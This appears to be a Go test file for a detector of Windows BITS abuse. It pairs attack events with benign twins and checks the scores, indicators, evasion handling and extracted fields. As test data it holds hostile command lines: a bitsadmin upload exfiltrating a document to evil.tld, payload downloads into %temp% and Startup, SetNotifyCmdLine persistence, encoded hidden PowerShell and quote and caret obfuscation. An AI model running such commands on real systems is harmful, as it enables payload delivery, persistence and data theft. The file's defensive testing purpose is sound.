package hardened

import (
	"slices"
	"strings"
	"testing"
)

// Event builders for the sources the detector reads.

const user = `CORP\alice`

// sysmon1 is a Sysmon process creation by a user from explorer.exe; kv
// adds or overrides fields.
func sysmon1(image, cmdline string, kv ...string) event {
	e := ev("EventCode", "1", "Image", image, "CommandLine", cmdline, "User", user,
		"ParentImage", `C:\Windows\explorer.exe`, "ParentCommandLine", `C:\Windows\Explorer.EXE`)
	for k, v := range ev(kv...) {
		e[k] = v
	}
	return e
}

const (
	bitsadminExe  = `C:\Windows\System32\bitsadmin.exe`
	powershellExe = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmdExe        = `C:\Windows\System32\cmd.exe`
	svchostExe    = `C:\Windows\System32\svchost.exe`
)

func bitsadmin(args string, kv ...string) event {
	return sysmon1(bitsadminExe, "bitsadmin "+args, kv...)
}

func powershell(args string, kv ...string) event {
	return sysmon1(powershellExe, "powershell.exe "+args, kv...)
}

func scriptBlock(text string) event { return ev("EventCode", "4104", "ScriptBlockText", text) }

func jobCreated(processPath string) event {
	return ev("EventCode", "3", "processPath", processPath, "jobTitle", "job", "jobOwner", user)
}

func transfer(url string) event { return ev("EventCode", "59", "url", url, "name", "job") }

func fileAdded(remote, local, owner string) event {
	return ev("EventCode", "16403", "RemoteName", remote, "LocalName", local, "jobOwner", owner, "User", owner, "jobTitle", "job")
}

// serviceChild is a Sysmon process creation whose parent is svchost.exe
// with the given command line ("" for none, as in Security 4688).
func serviceChild(image, cmdline, parentCmd string) event {
	e := ev("EventCode", "1", "Image", image, "CommandLine", cmdline, "User", `NT AUTHORITY\SYSTEM`, "ParentImage", svchostExe)
	if parentCmd != "" {
		e["ParentCommandLine"] = []string{parentCmd}
	}
	return e
}

// encode is what powershell.exe -EncodedCommand takes.
var encode = exEncode

// twinCase is an attack and its nearest benign twin: the attack must alert
// and carry the indicator, the twin must do neither.
type twinCase struct {
	name      string
	indicator string
	attack    event
	twin      event
}

var twinCases = []twinCase{
	// bitsadmin verbs.
	{"bitsadmin download (ART T1197 #1)", "bitsadmin_download",
		bitsadmin(`/transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\bitsadmin1_flag.ps1`),
		bitsadmin(`/list /allusers /verbose`)},
	{"bitsadmin addfile (ART T1197 #3)", "bitsadmin_download",
		bitsadmin(`/addfile AtomicBITS https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\bitsadmin3_flag.ps1`),
		bitsadmin(`/info AtomicBITS /verbose`)},
	{"bitsadmin upload (ART exfiltration)", "bitsadmin_upload",
		bitsadmin(`/transfer exfil /upload https://evil.tld/drop C:\Users\alice\Documents\secrets.docx`),
		bitsadmin(`/transfer backup /download http://fileserver.corp.local/drop D:\backup\secrets.docx`)},
	{"notify command line (ART T1197 #3)", "notify_cmdline",
		bitsadmin(`/setnotifycmdline AtomicBITS C:\Windows\system32\notepad.exe NULL`),
		bitsadmin(`/setnotifycmdline AtomicBITS NULL NULL`)},
	{"notify runs an interpreter", "notify_runs_interpreter",
		bitsadmin(`/SetNotifyCmdLine job %COMSPEC% "/c calc.exe"`),
		bitsadmin(`/GetNotifyCmdLine job`)},
	{"notify program in a user-writable folder", "notify_program_user_writable",
		bitsadmin(`/SetNotifyCmdLine job C:\Users\Public\upd.exe NULL`),
		bitsadmin(`/SetNotifyFlags job 1`)},
	{"renamed bitsadmin (OriginalFileName)", "renamed_bitsadmin",
		sysmon1(`C:\Users\Public\svc.exe`, `svc.exe /list`, "OriginalFileName", "bitsadmin.exe"),
		sysmon1(bitsadminExe, `bitsadmin.exe /list`, "OriginalFileName", "bitsadmin.exe")},
	{"Office parent", "office_parent",
		bitsadmin(`/transfer j https://evil.tld/a.csv D:\data\a.csv`, "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
		bitsadmin(`/transfer j https://evil.tld/a.csv D:\data\a.csv`)},
	{"desktopimgdownldr (ART T1197 #4)", "desktopimgdownldr_download",
		sysmon1(`C:\Windows\System32\desktopimgdownldr.exe`, `desktopimgdownldr.exe /lockscreenurl:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md /eventName:desktopimgdownldr`),
		sysmon1(`C:\Windows\System32\desktopimgdownldr.exe`, `desktopimgdownldr.exe /eventName:corp`)},

	// Evasion inside switches and URLs.
	{"quote insertion in a switch", "quote_obfuscation",
		bitsadmin(`/ad"dfi"le job https://evil.tld/a.csv D:\data\a.csv`),
		bitsadmin(`/addfile job https://evil.tld/a.csv D:\data\a.csv`)},
	{"caret insertion in the program and switch", "quote_obfuscation",
		sysmon1(cmdExe, `cmd.exe /c bits^admin /tr^ansfer job https://evil.tld/a.csv D:\data\a.csv`),
		sysmon1(cmdExe, `cmd.exe /c bitsadmin /transfer job https://evil.tld/a.csv D:\data\a.csv`)},
	{"quote insertion in the scheme vs Windows Update as SYSTEM", "quote_obfuscation",
		bitsadmin(`/transfer job h"tt"ps://evil.tld/a.exe D:\data\a.exe`),
		bitsadmin(`/transfer job https://download.windowsupdate.com/msdownload/update/a.exe D:\data\a.exe`, "User", `NT AUTHORITY\SYSTEM`)},
	{"https:/host", "malformed_url",
		bitsadmin(`/transfer job https:/evil.tld/a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job https://evil.tld/a.csv D:\data\a.csv`)},
	{"?.microsoft.com in the query", "external_url",
		powershell(`-c Start-BitsTransfer -Source http://evil.tld/x?.microsoft.com -Destination D:\data\x.exe`),
		powershell(`-c Start-BitsTransfer -Source http://x.microsoft.com/a -Destination D:\data\x.exe`)},
	{"microsoft.com.evil.tld", "external_url",
		powershell(`-c Start-BitsTransfer http://download.microsoft.com.evil.tld/a.exe D:\data\a.exe`),
		powershell(`-c Start-BitsTransfer http://download.microsoft.com/a.exe D:\data\a.exe`)},
	{"@ userinfo", "url_userinfo",
		bitsadmin(`/transfer job http://download.microsoft.com@evil.tld/a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job http://download.microsoft.com/a.csv D:\data\a.csv`)},
	{"ftp source", "ftp_url",
		bitsadmin(`/transfer job ftp://evil.tld/a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job http://fileserver/a.csv D:\data\a.csv`)},
	{"WebDAV UNC source on a public host", "external_url",
		bitsadmin(`/transfer job \\evil.tld@SSL\DavWWWRoot\a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job \\fileserver\share\a.csv D:\data\a.csv`)},
	{"UNC source", "unc_source",
		bitsadmin(`/transfer job \\203.0.113.7\share\a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job http://10.1.2.3/share/a.csv D:\data\a.csv`)},
	{"public IP vs private IP", "raw_ip_url",
		bitsadmin(`/transfer job http://203.0.113.7/a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job http://10.1.2.3/a.csv D:\data\a.csv`)},
	{"decimal IP", "raw_ip_url",
		bitsadmin(`/transfer job http://3405803783/a.csv D:\data\a.csv`),
		bitsadmin(`/transfer job http://3232235777/a.csv D:\data\a.csv`)},
	{"file-sharing domain", "file_sharing_domain",
		powershell(`-c Start-BitsTransfer https://transfer.sh/abc/a.csv D:\data\a.csv`),
		powershell(`-c Start-BitsTransfer https://example.com/abc/a.csv D:\data\a.csv`)},
	// Dropbox's own client downloads are known-good (dropbox_download);
	// its users' files are not.
	{"Dropbox user content vs Dropbox's client update (Bits-Client 59)", "file_sharing_domain",
		transfer(`https://dl.dropboxusercontent.com/s/0a1b2c/DropboxClient_119.4.1772.exe`),
		transfer(`https://edge.dropboxstatic.com/dbx-releng/client/DropboxClient_119.4.1772.exe`)},

	// Payload and destination.
	{"executable from an external host (Bits-Client 59)", "executable_download",
		transfer(`https://evil.tld/payload.exe`),
		transfer(`https://evil.tld/payload.csv`)},
	{"archive from a raw IP (Bits-Client 60)", "archive_download",
		ev("EventCode", "60", "url", `http://203.0.113.7/a.zip`, "name", "job"),
		ev("EventCode", "60", "url", `http://10.0.0.5/a.csv`, "name", "job")},
	{"image extension on a bitsadmin download", "disguised_extension",
		bitsadmin(`/transfer job https://evil.tld/a.png D:\data\a.png`),
		bitsadmin(`/transfer job https://evil.tld/a.csv D:\data\a.csv`)},
	{"renamed on download", "renamed_on_download",
		powershell(`-c Start-BitsTransfer -Source http://deploy/a.txt -Destination D:\deploy\a.msi`),
		powershell(`-c Start-BitsTransfer -Source http://deploy/a.msi -Destination D:\deploy\a.msi`)},
	{"%temp% destination", "download_to_user_writable",
		bitsadmin(`/transfer job https://evil.tld/a.csv %temp%\a.csv`),
		bitsadmin(`/transfer job https://evil.tld/a.csv D:\data\a.csv`)},
	{"$env:TEMP destination", "download_to_user_writable",
		powershell(`-c Start-BitsTransfer -Source https://evil.tld/a.dat -Destination $env:TEMP\a.dat`),
		powershell(`-c Start-BitsTransfer -Source https://evil.tld/a.dat -Destination D:\data\a.dat`)},
	{"${env:PUBLIC} destination", "download_to_user_writable",
		powershell(`-c "Start-BitsTransfer -Source https://evil.tld/a.dat -Destination ${env:PUBLIC}\a.dat"`),
		powershell(`-c "Start-BitsTransfer -Source https://evil.tld/a.dat -Destination ${env:ProgramFiles}\a.dat"`)},
	{"quoted destination with spaces in a user folder", "download_to_user_writable",
		bitsadmin(`/transfer job https://evil.tld/a.csv "C:\Users\Alice Smith\AppData\Roaming\a.csv"`),
		bitsadmin(`/transfer job https://evil.tld/a.csv "C:\Program Files\Vendor App\a.csv"`)},
	{"Startup folder destination", "download_to_user_writable",
		bitsadmin(`/transfer job https://evil.tld/a.csv "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\a.csv"`),
		bitsadmin(`/transfer job https://evil.tld/a.csv "C:\Program Files\Start Menu Tool\a.csv"`)},
	{"local file as a transfer source (notify trigger, Bits-Client 59)", "local_file_transfer",
		transfer(`C:\Windows\System32\calc.exe`),
		transfer(`https://intranet.corp.local/a.csv`)},
	{"local file as a transfer source (16403)", "local_file_transfer",
		fileAdded(`C:\Windows\System32\cmd.exe`, `D:\data\x.csv`, user),
		fileAdded(`https://intranet.corp.local/x.csv`, `D:\data\x.csv`, user)},
	{"16403 executable from a raw IP into Temp", "raw_ip_url",
		fileAdded(`http://203.0.113.7/a.exe`, `C:\Users\alice\AppData\Local\Temp\a.exe`, user),
		fileAdded(`http://edgedl.me.gvt1.com/edgedl/release2/update2/GoogleUpdateSetup.exe`, `C:\Program Files (x86)\Google\Update\Download\GoogleUpdateSetup.exe`, `NT AUTHORITY\SYSTEM`)},

	// PowerShell.
	{"encoded command using BITS vs encoded Get-Date", "bits_in_encoded_command",
		powershell(`-NoP -W Hidden -enc ` + encode(`Start-BitsTransfer -Source https://evil.tld/a.csv -Destination D:\data\a.csv`)),
		powershell(`-NoP -W Hidden -enc ` + encode(`Get-Date`))},
	{"pwsh Start-BitsTransfer", "bits_cmdlet",
		sysmon1(`C:\Program Files\PowerShell\7\pwsh.exe`, `pwsh -c Start-BitsTransfer https://evil.tld/a.exe D:\data\a.exe`),
		sysmon1(`C:\Program Files\PowerShell\7\pwsh.exe`, `pwsh -c Get-BitsTransfer -AllUsers`)},
	{"powershell_ise Resume-BitsTransfer", "bits_cmdlet",
		sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe`, `powershell_ise.exe -c Resume-BitsTransfer -BitsJob $j; Start-BitsTransfer http://203.0.113.7/a.exe D:\a.exe`),
		sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe`, `powershell_ise.exe C:\scripts\report.ps1`)},
	{"Add-BitsFile in a script block", "bits_cmdlet",
		scriptBlock("$j = Start-BitsTransfer -Asynchronous -Source https://intranet/x.csv -Destination D:\\x.csv\nAdd-BitsFile -BitsJob $j -Source https://evil.tld/a.exe -Destination C:\\Users\\Public\\a.exe\nComplete-BitsTransfer $j"),
		scriptBlock("Get-BitsTransfer | Where-Object JobState -eq 'Error' | Remove-BitsTransfer")},
	{"Set-BitsTransfer in module logging (4103)", "bits_cmdlet",
		ev("EventCode", "4103", "Payload", "CommandInvocation(Set-BitsTransfer): \"Set-BitsTransfer\"\r\nParameterBinding(Set-BitsTransfer): name=\"Source\"; value=\"http://203.0.113.7/a.exe\"\r\nParameterBinding(Set-BitsTransfer): name=\"Destination\"; value=\"D:\\a.exe\"\r\n"),
		ev("EventCode", "4103", "Payload", "CommandInvocation(Get-BitsTransfer): \"Get-BitsTransfer\"\r\nParameterBinding(Get-BitsTransfer): name=\"AllUsers\"; value=\"True\"\r\n")},
	{"BITS COM object from script", "bits_com_object",
		scriptBlock(`$m = New-Object -ComObject BITS.Manager; $j = $m.CreateJob("x"); $j.AddFile("https://evil.tld/a.csv", "D:\a.csv")`),
		scriptBlock(`$m = New-Object -ComObject Shell.Application; $m.Open("https://evil.tld/a.csv")`)},
	{"SetNotifyCmdLine through COM", "notify_cmdline",
		scriptBlock(`$job.SetNotifyCmdLine("C:\Windows\System32\cmd.exe", "cmd.exe /c calc")`),
		scriptBlock(`$job.NotifyFlags = 3`)},

	// Bits-Client job creation.
	{"job from bitsadmin (Bits-Client 3)", "bits_job_from_bitsadmin",
		jobCreated(bitsadminExe),
		jobCreated(svchostExe)},
	{"job from a script host", "bits_job_from_lolbin",
		jobCreated(`C:\Windows\System32\mshta.exe`),
		jobCreated(`C:\Windows\System32\wuauclt.exe`)},
	{"job from an unknown process in a user folder", "client_in_user_writable",
		jobCreated(`C:\Users\alice\AppData\Local\Temp\updater.exe`),
		jobCreated(`C:\Windows\System32\wuauclt.exe`)},
	{"job client in a user folder vs in Program Files", "client_in_user_writable",
		jobCreated(`C:\Users\alice\AppData\Local\Temp\updater.exe`),
		jobCreated(`C:\Program Files\Vendor\updater.exe`)},

	// Children of the BITS service.
	{"BITS service child cmd.exe vs WerFault", "bits_service_child",
		serviceChild(cmdExe, `cmd.exe /c calc.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`),
		serviceChild(`C:\Windows\System32\WerFault.exe`, `C:\Windows\system32\WerFault.exe -u -p 1104 -s 512`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`)},
	{"BITS service child vs the Task Scheduler's", "bits_service_child",
		serviceChild(cmdExe, `cmd.exe /c C:\Users\Public\run.bat`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`),
		serviceChild(cmdExe, `cmd.exe /c C:\Users\Public\run.bat`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`)},
	{"notify program (ART notepad) under the BITS service", "bits_service_child",
		serviceChild(`C:\Windows\System32\notepad.exe`, `C:\Windows\system32\notepad.exe`, `C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS`),
		serviceChild(`C:\Windows\System32\notepad.exe`, `C:\Windows\system32\notepad.exe`, `C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain`)},
	{"shared netsvcs host (pre-1703) child interpreter", "child_is_interpreter",
		serviceChild(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -nop -c iex(gc C:\x.txt)`, `C:\Windows\system32\svchost.exe -k netsvcs`),
		serviceChild(`C:\Windows\System32\wuauclt.exe`, `wuauclt.exe /RunHandlerComServer`, `C:\Windows\system32\svchost.exe -k netsvcs`)},
	{"BITS service child in a user-writable folder", "child_in_user_writable",
		serviceChild(`C:\Users\Public\upd.exe`, `C:\Users\Public\upd.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`),
		serviceChild(`C:\Users\Public\upd.exe`, `C:\Users\Public\upd.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`)},

	// Security 4688 carries the same command line under other names.
	{"Security 4688 bitsadmin from Excel", "office_parent",
		ev("EventCode", "4688", "NewProcessName", bitsadminExe, "CommandLine", `bitsadmin /transfer j https://evil.tld/a.csv D:\data\a.csv`, "SubjectUserName", "alice", "ParentProcessName", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`),
		ev("EventCode", "4688", "NewProcessName", bitsadminExe, "CommandLine", `bitsadmin /transfer j https://evil.tld/a.csv D:\data\a.csv`, "SubjectUserName", "alice", "ParentProcessName", cmdExe)},
}

func TestTwins(t *testing.T) {
	d := New(nil)
	for _, c := range twinCases {
		t.Run(c.name, func(t *testing.T) {
			if _, ok := indicatorByName(c.indicator); !ok {
				t.Fatalf("test names unknown indicator %q", c.indicator)
			}
			a := score(t, d, c.attack)
			if a.risk < AlertThreshold || !a.has(c.indicator) {
				t.Errorf("attack: RiskScore %d, Indicators %v; want >= %d with %s", a.risk, a.indicators, AlertThreshold, c.indicator)
			}
			b := score(t, d, viaCmd(c.twin))
			if b.risk >= AlertThreshold || b.has(c.indicator) {
				t.Errorf("twin: RiskScore %d, Indicators %v; want < %d without %s", b.risk, b.indicators, AlertThreshold, c.indicator)
			}
		})
	}
}

// viaCmd runs a bitsadmin or PowerShell process-creation twin from
// cmd.exe instead. The SPL alerts on nearly every bitsadmin /transfer and
// Start-BitsTransfer, and so does this mode (spl_alert); under cmd.exe the
// SPL does not look, so the twin tests this mode's own indicators.
func viaCmd(e event) event {
	img := ""
	if v := e["Image"]; len(v) == 1 {
		img = strings.ToLower(v[0])
	}
	if e["OriginalFileName"] != nil || !strings.HasSuffix(img, `\bitsadmin.exe`) && !strings.HasSuffix(img, `\powershell.exe`) && !strings.HasSuffix(img, `\pwsh.exe`) {
		return e
	}
	out := event{}
	for k, v := range e {
		out[k] = v
	}
	out["Image"] = []string{cmdExe}
	out["CommandLine"] = []string{"cmd.exe /c " + e["CommandLine"][0]}
	return out
}

// indicatorByName finds the scoring or evasion rule an Indicators value
// names.
func indicatorByName(name string) (int, bool) {
	for i := range rules {
		if rules[i].name == name && rules[i].kind != knownGood {
			return i, true
		}
	}
	return 0, false
}

// builtinKnownGoodIDs are the names of the rule table's known-good rows.
func builtinKnownGoodIDs() []string {
	var ids []string
	for _, r := range rules {
		if r.kind == knownGood {
			ids = append(ids, r.name)
		}
	}
	return ids
}

// TestEveryIndicatorIsExercised keeps the tables honest: an indicator no
// test event raises is an untested weight.
func TestEveryIndicatorIsExercised(t *testing.T) {
	d := New(nil)
	seen := map[string]bool{}
	for _, c := range twinCases {
		for _, ind := range score(t, d, c.attack).indicators {
			seen[ind] = true
		}
	}
	for _, c := range weakCases {
		for _, ind := range score(t, d, c.e).indicators {
			seen[ind] = true
		}
	}
	for _, r := range rules {
		e := r.attack
		if r.kind == knownGood {
			e = r.benign // the event the entry allows
		}
		for _, ind := range score(t, d, ev(e...)).indicators {
			seen[ind] = true
		}
	}
	for _, r := range rules {
		if !seen[r.indicatorName()] {
			t.Errorf("no test event raises %s", r.indicatorName())
		}
	}
}

// weakCases are events whose indicators must not alert on their own.
var weakCases = []struct {
	name string
	e    event
	want []string
}{
	{"bitsadmin /reset", bitsadmin(`/reset /allusers`), []string{"bitsadmin_reset"}},
	{"bitsadmin /resume", bitsadmin(`/resume AtomicBITS`), []string{"bitsadmin_job_control"}},
	{"bitsadmin /create", bitsadmin(`/create AtomicBITS`), []string{"bitsadmin_job_control"}},
	{"bitsadmin /setnotifyflags", viaCmd(bitsadmin(`/SetNotifyFlags job 1`)), []string{"notify_flags"}},
	{"bitsadmin upload to the intranet", viaCmd(bitsadmin(`/transfer backup /upload http://fileserver.corp.local/drop D:\backup\db.bak`)), []string{"bitsadmin_upload"}},
	{"job from PowerShell", jobCreated(powershellExe), []string{"bits_job_from_powershell"}},
	{"job from a Program Files updater", jobCreated(`C:\Program Files\Vendor\agent.exe`), []string{"bits_job_from_unknown_client"}},
	{"PowerShell that only names its own .exe (the SPL's defect)", powershell(`-NoProfile -c Get-Date`), []string{"known_good:spl_program_name_only", "spl_alert"}},
	{"external transfer", transfer(`https://evil.tld/a.csv`), []string{"external_url"}},
	{"private-IP transfer", transfer(`http://10.0.0.5/a.csv`), []string{"private_ip_url"}},
	{"ISO from a public mirror", transfer(`https://releases.ubuntu.com/20.04.3/ubuntu-20.04.3-desktop-amd64.iso`), []string{"archive_download", "external_url"}},
	{"svchost child without a parent command line", serviceChild(cmdExe, `cmd.exe /c whoami`, ""), []string{"svchost_child_interpreter"}},
	{"svchost child dllhost without a parent command line", serviceChild(`C:\Windows\System32\dllhost.exe`, `DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`, ""), nil},
	{"encoded Get-Date", powershell(`-e ` + encode("Get-Date")), []string{"encoded_command", "known_good:spl_program_name_only", "spl_alert"}},
	{"BitsTransfer module manifest", scriptBlock(`CmdletsToExport="Add-BitsFile","Complete-BitsTransfer","Get-BitsTransfer","Remove-BitsTransfer","Resume-BitsTransfer","Set-BitsTransfer","Start-BitsTransfer","Suspend-BitsTransfer"`), []string{"bits_cmdlet"}},
	{"desktopimgdownldr from the intranet", sysmon1(`C:\Windows\System32\desktopimgdownldr.exe`, `desktopimgdownldr.exe /lockscreenurl:https://intranet.corp.local/lock.jpg /eventName:corp`), []string{"desktopimgdownldr_download", "disguised_extension"}},
	{"chrome.exe opening an executable URL is not BITS", sysmon1(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `chrome.exe https://evil.tld/a.exe`), nil},
	{"Sysmon 3 network event of bitsadmin", ev("EventCode", "3", "Image", bitsadminExe, "DestinationIp", "203.0.113.7"), nil},
}

func TestWeakIndicatorsAlone(t *testing.T) {
	d := New(nil)
	for _, c := range weakCases {
		r := score(t, d, c.e)
		if r.risk >= AlertThreshold || !slices.Equal(r.indicators, c.want) {
			t.Errorf("%s: RiskScore %d, Indicators %v; want < %d and %v", c.name, r.risk, r.indicators, AlertThreshold, c.want)
		}
	}
}

// TestEvasionVariants checks that each evasion scores like its plain form:
// the same indicators, plus quote_obfuscation where quotes or carets were
// inserted.
func TestEvasionVariants(t *testing.T) {
	d := New(nil)
	plainBits := bitsadmin(`/transfer job https://evil.tld/a.exe %temp%\a.exe`)
	payload := encode(`Start-BitsTransfer -Source https://evil.tld/a.exe -Destination $env:TEMP\a.exe`)
	plainPS := powershell(`-enc ` + payload)
	for _, c := range []struct {
		name      string
		plain     event
		variant   event
		obfuscate bool
	}{
		{"upper case", plainBits, sysmon1(`C:\WINDOWS\SYSTEM32\BITSADMIN.EXE`, `BITSADMIN /TRANSFER JOB HTTPS://EVIL.TLD/A.EXE %TEMP%\A.EXE`), false},
		{"mixed case", plainBits, bitsadmin(`/TrAnSfEr job hTTpS://EvIl.TlD/a.ExE %TeMp%\a.eXe`), false},
		{"dash switches", plainBits, bitsadmin(`-transfer job https://evil.tld/a.exe %temp%\a.exe`), false},
		{"quoted switch", plainBits, bitsadmin(`/tra"nsf"er job https://evil.tld/a.exe %temp%\a.exe`), true},
		{"quoted URL host", plainBits, bitsadmin(`/transfer job https://ev"il.t"ld/a.exe %temp%\a.exe`), true},
		{"wrapped in cmd /c quotes", plainBits, sysmon1(cmdExe, `cmd.exe /c "bitsadmin /transfer job https://evil.tld/a.exe %temp%\a.exe"`), false},
		{"HTTP upper-case scheme", plainBits, bitsadmin(`/transfer job HTTP://evil.tld/a.exe %temp%\a.exe`), false},
		{"-e", plainPS, powershell(`-e ` + payload), false},
		{"-ec", plainPS, powershell(`-ec ` + payload), false},
		{"-en", plainPS, powershell(`-en ` + payload), false},
		{"-EncodedCommand", plainPS, powershell(`-EncodedCommand ` + payload), false},
		{"-ENCODEDCOMMAND", plainPS, powershell(`-ENCODEDCOMMAND ` + payload), false},
		{"/enc", plainPS, powershell(`/enc ` + payload), false},
		{"en dash", plainPS, powershell("\u2013enc " + payload), false},
		{"em dash", plainPS, powershell("\u2014EncodedCommand " + payload), false},
		{"horizontal bar", plainPS, powershell("\u2015ec " + payload), false},
		{"after other switches", plainPS, powershell(`-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -enc ` + payload), false},
		{"colon form", plainPS, powershell(`-enc:` + payload), false},
		{"unpadded", plainPS, powershell(`-enc ` + strings.TrimRight(payload, "=")), false},
		{"pwsh", plainPS, sysmon1(`C:\Program Files\PowerShell\7\pwsh.exe`, `pwsh -ec `+payload), false},
		{"from cmd.exe", plainPS, sysmon1(cmdExe, `cmd /c powershell -enc `+payload), false},
	} {
		p := score(t, d, c.plain)
		v := score(t, d, c.variant)
		// spl_alert depends on the image the SPL tests, which some
		// variants change (cmd.exe, pwsh.exe): compare the rest.
		notSPL := func(s string) bool { return s == "spl_alert" }
		p.indicators = slices.DeleteFunc(slices.Clone(p.indicators), notSPL)
		v.indicators = slices.DeleteFunc(slices.Clone(v.indicators), notSPL)
		want := slices.Clone(p.indicators)
		if c.obfuscate {
			want = append(want, "quote_obfuscation")
			slices.Sort(want)
		}
		if !slices.Equal(v.indicators, want) {
			t.Errorf("%s: Indicators %v, want %v", c.name, v.indicators, want)
		}
		if v.risk < AlertThreshold {
			t.Errorf("%s: RiskScore %d, want an alert", c.name, v.risk)
		}
	}
}

func TestDecodedCommand(t *testing.T) {
	d := New(nil)
	script := "Start-BitsTransfer -Source https://evil.tld/a.exe -Destination $env:TEMP\\a.exe # é ✓ 𝄞"
	r := score(t, d, powershell(`-nop -enc `+encode(script)))
	if got := r.fields["DecodedCommand"]; !slices.Equal(got, []string{script}) {
		t.Errorf("DecodedCommand = %q, want %q", got, script)
	}
	if got := r.fields["BitsUrl"]; !slices.Equal(got, []string{"https://evil.tld/a.exe"}) {
		t.Errorf("BitsUrl = %q", got)
	}
	if got := r.fields["BitsDestination"]; !slices.Equal(got, []string{`$env:TEMP\a.exe`}) {
		t.Errorf("BitsDestination = %q", got)
	}
	// Encoded inside encoded is decoded too, up to maxDecodeDepth.
	inner := `powershell -enc ` + encode(`Start-BitsTransfer https://evil.tld/a.exe D:\a.exe`)
	r = score(t, d, powershell(`-enc `+encode(inner)))
	if !r.has("bits_in_encoded_command") || len(r.fields["DecodedCommand"]) != 2 {
		t.Errorf("nested: Indicators %v, DecodedCommand %q", r.indicators, r.fields["DecodedCommand"])
	}
	// Not base64: flagged, nothing decoded.
	r = score(t, d, powershell(`-enc not*base64!`))
	if !r.has("encoded_command") || r.fields["DecodedCommand"] != nil {
		t.Errorf("invalid payload: Indicators %v, DecodedCommand %q", r.indicators, r.fields["DecodedCommand"])
	}
}

func TestExtractedFields(t *testing.T) {
	d := New(nil)
	for _, c := range []struct {
		name  string
		e     event
		field string
		want  []string
	}{
		{"bitsadmin URL", bitsadmin(`/transfer job h"tt"ps://Evil.tld/A.exe "C:\Users\Alice Smith\AppData\Local\Temp\A.exe"`), "BitsUrl", []string{"https://Evil.tld/A.exe"}},
		{"bitsadmin destination with spaces", bitsadmin(`/transfer job https://evil.tld/a.exe "C:\Users\Alice Smith\AppData\Local\Temp\A.exe" /priority high`), "BitsDestination", []string{`C:\Users\Alice Smith\AppData\Local\Temp\A.exe`}},
		{"bitsadmin job title", bitsadmin(`/transfer /download /priority foreground MyJob https://evil.tld/a.exe C:\a.exe`), "BitsJobTitle", []string{"MyJob"}},
		{"bitsadmin several files", bitsadmin(`/transfer job https://evil.tld/a.exe C:\a.exe https://evil.tld/b.dll C:\b.dll`), "BitsDestination", []string{`C:\a.exe`, `C:\b.dll`}},
		{"bitsadmin process path", bitsadmin(`/transfer job https://evil.tld/a.exe C:\a.exe`), "BitsProcessPath", []string{bitsadminExe}},
		{"notify command", bitsadmin(`/SetNotifyCmdLine job "C:\Windows\System32\cmd.exe" "/c start C:\Users\Public\x.exe"`), "BitsNotifyCommand", []string{`C:\Windows\System32\cmd.exe /c start C:\Users\Public\x.exe`}},
		{"BITS service child command", serviceChild(cmdExe, `cmd.exe /c calc.exe`, `svchost.exe -k netsvcs -p -s BITS`), "BitsNotifyCommand", []string{`cmd.exe /c calc.exe`}},
		{"job process path", jobCreated(`C:\Users\alice\AppData\Local\Temp\u.exe`), "BitsProcessPath", []string{`C:\Users\alice\AppData\Local\Temp\u.exe`}},
		{"job title of a transfer", transfer(`https://evil.tld/a.exe`), "BitsJobTitle", []string{"job"}},
		{"16403 destination", fileAdded(`http://203.0.113.7/a.exe`, `C:\Users\alice\AppData\Local\Temp\a.exe`, user), "BitsDestination", []string{`C:\Users\alice\AppData\Local\Temp\a.exe`}},
		{"PowerShell -Destination:value", powershell(`-c Start-BitsTransfer -Source:https://evil.tld/a.exe -Destination:C:\x\a.exe`), "BitsDestination", []string{`C:\x\a.exe`}},
		{"PowerShell source array", powershell(`-c Start-BitsTransfer -Source https://evil.tld/a.exe, https://evil.tld/b.exe -Destination C:\x\`), "BitsUrl", []string{"https://evil.tld/a.exe", "https://evil.tld/b.exe"}},
		{"no BITS, no fields", sysmon1(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `chrome.exe https://evil.tld/a.exe`), "BitsUrl", nil},
	} {
		if got := score(t, d, c.e).fields[c.field]; !slices.Equal(got, c.want) {
			t.Errorf("%s: %s = %q, want %q", c.name, c.field, got, c.want)
		}
	}
}
